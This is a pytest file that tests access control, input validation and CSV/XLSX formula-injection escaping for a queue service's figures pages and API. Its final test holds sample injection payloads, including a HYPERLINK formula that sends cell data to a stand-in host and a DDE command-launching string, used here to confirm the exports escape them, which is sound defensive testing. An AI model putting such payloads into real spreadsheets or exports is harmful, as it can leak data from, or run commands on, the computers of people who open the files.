"""Every route of the queue figures, from outside: another office's manager, a clerk, a signed-out visitor and a
revoked API token are refused; bad query input is a 400 with a message (never a 500), on every route.

The routes are read from the app's URL map, so a figures route added later without a line here fails the test."""
from __future__ import annotations

import pytest
from sqlalchemy import select

from queue_service.extensions import db
from queue_service.models import ApiToken, User
from tests.reports.conftest import login

#: endpoint -> (method, URL of office BKS)
PAGES = {
    "figures.office_page": ("GET", "/manager/BKS/figures"),
    "figures.office_export": ("GET", "/manager/BKS/figures.csv"),
    "figures.monthly_report": ("GET", "/manager/BKS/report/2026-01"),
    "figures.targets": ("GET", "/manager/BKS/figures/targets"),
}
API = {
    "figures_api.office_figures": "/api/v1/offices/BKS/figures",
    "figures_api.office_staffing": "/api/v1/offices/BKS/staffing",
}
#: the offices side by side: anyone with offices of their own may open it, and sees only those
OWN_OFFICES = {"figures.overview": "/manager/figures", "figures_api.offices_figures": "/api/v1/figures"}


def test_every_figures_route_is_listed_here(rapp):
    endpoints = {r.endpoint for r in rapp.url_map.iter_rules() if r.endpoint.startswith(("figures.", "figures_api."))}
    assert endpoints == set(PAGES) | set(API) | set(OWN_OFFICES)
    assert {(r.endpoint, m) for r in rapp.url_map.iter_rules() if r.endpoint.startswith("figures")
            for m in r.methods - {"HEAD", "OPTIONS"}} >= {("figures.targets", "POST")}


def test_pages_refuse_another_offices_manager_a_clerk_and_a_stranger(rapp, rdemo):
    other = login(rapp.test_client(), rdemo, "manajer.krw")
    clerk = login(rapp.test_client(), rdemo, "petugas1")
    anon = rapp.test_client()
    for endpoint, (method, url) in PAGES.items():
        assert other.open(url, method=method).status_code == 403, endpoint
        assert clerk.open(url, method=method).status_code == 403, endpoint
        r = anon.open(url, method=method)
        assert r.status_code == 302 and "/login?next=" in r.headers["Location"], endpoint
    sid = rdemo["services"][0]["id"]
    for client in (other, clerk):
        assert client.post("/manager/BKS/figures/targets", data={f"target-{sid}": "5"}).status_code == 403
    assert anon.post("/manager/BKS/figures/targets", data={f"target-{sid}": "5"}).status_code in (302, 400, 401)
    manager = login(rapp.test_client(), rdemo, "manajer")
    assert 'value="5"' not in manager.get("/manager/BKS/figures/targets").get_data(as_text=True)
    # the offices side by side: a clerk and a stranger are refused; another office's manager sees only theirs
    assert clerk.get("/manager/figures").status_code == 403
    assert "/login?next=" in anon.get("/manager/figures").headers["Location"]
    r = other.get("/manager/figures")
    assert r.status_code == 302 and r.headers["Location"].endswith("/manager/KRW/figures")


def test_api_refuses_another_office_a_clerk_no_token_and_a_revoked_token(rapp, rdemo):
    c = rapp.test_client()
    bearer = lambda name: {"Authorization": f"Bearer {rdemo['tokens'][name]}"}  # noqa: E731
    for endpoint, url in API.items():
        assert c.get(url, headers=bearer("manajer")).status_code == 200, endpoint
        assert c.get(url, headers=bearer("manajer.krw")).status_code == 403, endpoint
        assert c.get(url, headers=bearer("petugas1")).status_code == 403, endpoint
        r = c.get(url)
        assert r.status_code == 401 and r.is_json, endpoint
        assert c.get(url, headers={"Authorization": "Bearer stf_not-a-token"}).status_code == 401, endpoint
    assert c.get("/api/v1/figures", headers=bearer("petugas1")).status_code == 403
    assert c.get("/api/v1/figures").status_code == 401
    side = c.get("/api/v1/figures", headers=bearer("manajer.krw")).json
    assert [o["office"] for o in side["offices"]] == ["KRW"]
    assert c.get("/api/v1/figures?offices=BKS", headers=bearer("manajer.krw")).status_code in (403, 404)
    # the manager's token is revoked: every figures endpoint refuses it from then on
    with rapp.app_context():
        user = db.session.scalar(select(User).where(User.username == "manajer"))
        for token in db.session.scalars(select(ApiToken).where(ApiToken.user_id == user.id)):
            token.revoked_at = rapp.config["CLOCK"].now()
        db.session.commit()
    for url in [*API.values(), "/api/v1/figures"]:
        r = c.get(url, headers=bearer("manajer"))
        assert r.status_code == 401 and r.is_json, url


BAD_PAGE_QUERIES = [
    "from=2026-13-01", "to=kemarin", "from=2026-01-05&to=2026-01-01", "from=2020-01-01&to=2026-01-01",
    "from=1900-01-01", "to=9999-12-31", "from=" + "9" * 5000, "to=2026-01-01T00:00", "from=%00", "from=2026W01", "to=20260105",
    "weekday=8", "weekday=-1", "weekday=99999999999999999999999999", "weekday=1.5", "weekday=%D9%A3",
]


@pytest.mark.parametrize("query", BAD_PAGE_QUERIES)
def test_bad_query_input_is_a_400_with_a_message_on_the_pages(rapp, rdemo, query):
    c = login(rapp.test_client(), rdemo, "manajer")
    for url in ("/manager/BKS/figures", "/manager/BKS/figures.csv", "/manager/BKS/figures.xlsx"):
        r = c.get(f"{url}?{query}")
        assert r.status_code == 400, (url, r.status_code)
        assert "Permintaan tidak dapat dipahami" in r.get_data(as_text=True)
    if "weekday" not in query:
        r = login(rapp.test_client(), rdemo, "admin").get(f"/manager/figures?{query}")
        assert r.status_code == 400


@pytest.mark.parametrize("month", ["2026-13", "2026-00", "2026-1", "26-01", "abcd-ef", "0000-01", "99999-01",
                                   "2026-01-01", "9" * 400, "2026-%C2%B9%C2%B2", "1900-01", "9999-12",
                                   "%EF%BC%92%EF%BC%90%EF%BC%92%EF%BC%96-01", "+026-01", "2026-+1"])
def test_a_bad_month_of_the_monthly_report_is_a_400(rapp, rdemo, month):
    c = login(rapp.test_client(), rdemo, "manajer")
    r = c.get(f"/manager/BKS/report/{month}")
    assert r.status_code == 400, r.status_code
    assert "TTTT-BB" in r.get_data(as_text=True) or "2000" in r.get_data(as_text=True)


@pytest.mark.parametrize("query", [
    "from=2026-02-30", "from=2026-01-05&to=2026-01-01", "from=2000-01-01&to=2026-01-01", "to=99999-01-01",
    "by=colour", "by=" + ",".join(["service"] * 5000), "weekday=99999999999999999999", "weekday=0",
    "from=" + "1" * 100000,
])
def test_bad_query_input_is_a_400_in_json_on_the_api(rapp, rdemo, query):
    c = rapp.test_client()
    h = {"Authorization": f"Bearer {rdemo['tokens']['manajer']}"}
    for url in (*API.values(), "/api/v1/figures"):
        r = c.get(f"{url}?{query}", headers=h)
        if r.status_code == 200:  # a parameter this endpoint does not take (by=, weekday=) is ignored
            assert query.split("=")[0] in ("by", "weekday"), (url, query)
            continue
        assert r.status_code in (400, 414), (url, query, r.status_code)
        if r.status_code == 400:
            assert r.is_json and r.json["message"], (url, query)


def test_the_offices_parameter_with_thousands_of_codes_is_refused_cleanly(rapp, rdemo):
    c = rapp.test_client()
    h = {"Authorization": f"Bearer {rdemo['tokens']['admin']}"}
    r = c.get("/api/v1/figures?offices=" + ",".join(f"X{i}" for i in range(3000)), headers=h)
    assert r.status_code in (400, 404) and r.is_json and r.json["message"]


@pytest.mark.parametrize("value", ["99999999999999999999999", "1e308", "-5", "0", "abc", "15.5", "NaN", "９"])
def test_a_bad_target_wait_is_a_400_and_nothing_is_stored(rapp, rdemo, value):
    c = login(rapp.test_client(), rdemo, "manajer")
    sid = rdemo["services"][0]["id"]
    r = c.post("/manager/BKS/figures/targets", data={f"target-{sid}": value})
    assert r.status_code == 400, (value, r.status_code)
    page = c.get("/manager/BKS/figures/targets").get_data(as_text=True)
    assert f'value="{value}"' not in page


def test_text_written_as_a_formula_is_not_a_formula_in_the_exports(rapp, rdemo):
    """CSV/formula injection: text of any section's export (other features' tables included) that starts with
    = + - @ is written with a leading apostrophe in the CSV and as a text cell in the XLSX."""
    import csv
    import io

    import jinja2
    from openpyxl import load_workbook

    from queue_service.hooks import ReportSection, register_report_section

    evil = ['=HYPERLINK("http://x.example/?"&A1,"klik")', '@SUM(1+1)*cmd|"/c calc"!A1', "+1+1", "-2+3"]
    register_report_section(rapp, ReportSection(
        key="uji", title="Bagian uji", order=50, build=lambda session, ctx: None, template="reports/_uji.html",
        export=lambda data: [("uji", ["teks"], [[v] for v in evil] + [["biasa"]])],
        places=frozenset({"figures"})))
    rapp.jinja_loader = jinja2.ChoiceLoader([rapp.jinja_loader, jinja2.DictLoader({"reports/_uji.html": ""})])
    c = login(rapp.test_client(), rdemo, "manajer")
    rows = list(csv.reader(io.StringIO(c.get("/manager/BKS/figures.csv").data.decode("utf-8-sig"))))
    i = rows.index(["# uji"])
    assert rows[i + 2:i + 7] == [["'" + v] for v in evil] + [["biasa"]]
    book = load_workbook(io.BytesIO(c.get("/manager/BKS/figures.xlsx").data))
    cells = [cell for row in book["uji"].iter_rows(min_row=2) for cell in row]
    assert [cell.value for cell in cells] == ["'" + v for v in evil] + ["biasa"]
    assert all(cell.data_type == "s" for cell in cells)
